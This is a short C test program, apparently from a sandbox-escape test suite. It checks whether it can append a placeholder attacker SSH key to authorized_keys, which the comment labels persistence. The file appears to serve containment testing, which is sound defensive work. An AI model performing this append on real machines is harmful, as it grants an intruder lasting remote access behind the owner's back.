/* Append an attacker key to ~/.ssh/authorized_keys (persistence).
// profile: fs
*/
#include "esc.h"
int main(int argc, char **argv)
{
	esc_init(argc, argv);
	char p[4096];
	esc_join(p, sizeof p, esc_arg("sshdir"), "authorized_keys");
	int fd = open(p, O_WRONLY | O_CREAT | O_APPEND, 0600);
	if (fd < 0)
		return esc_result(0, "open authorized_keys");
	return esc_result(write(fd, "ssh-ed25519 AAAA attacker\n", 26) == 26, "append key");
}
